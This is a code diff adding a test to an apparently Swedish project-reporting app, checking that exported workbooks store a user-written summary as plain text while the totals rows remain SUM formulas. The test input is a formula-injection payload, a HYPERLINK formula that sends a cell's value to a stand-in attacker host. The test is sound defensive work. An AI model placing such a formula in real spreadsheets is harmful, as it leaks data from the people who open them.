@@ -134,3 +134,23 @@ def test_pdf_text_holds_period_work_areas_and_totals(report):
     assert "180 000,75 kr" in text and "34 000,55 kr" in text and "95 999,95 kr" in text
     assert "Innehåll" in text and "Sida 2 av" in text
     assert "Grön" in text
+
+
+def test_report_text_is_never_a_formula_and_the_totals_always_are(small, project_leader):
+    summary = '=HYPERLINK("http://evil.example/?leak="&B2,"Klicka här")'
+    report = build_report(small, summary=summary)
+    review.submit(report, project_leader)
+    report.refresh_from_db()
+
+    book = workbook(report)
+
+    (row,) = [r for r in book["Sammanfattning"].iter_rows() if r[0].value == "Sammanfattning"]
+    assert (row[1].value, row[1].data_type) == (summary, "s")
+    for name in ("Budget", "Utfall", "Finansiärer"):
+        sheet = book[name]
+        totals = sheet[sheet.max_row]
+        assert totals[0].value == "Summa"
+        sums = [cell for cell in totals[1:] if cell.value is not None]
+        assert sums, name
+        for cell in sums:
+            assert cell.data_type == "f" and cell.value.startswith("=SUM("), (name, cell)
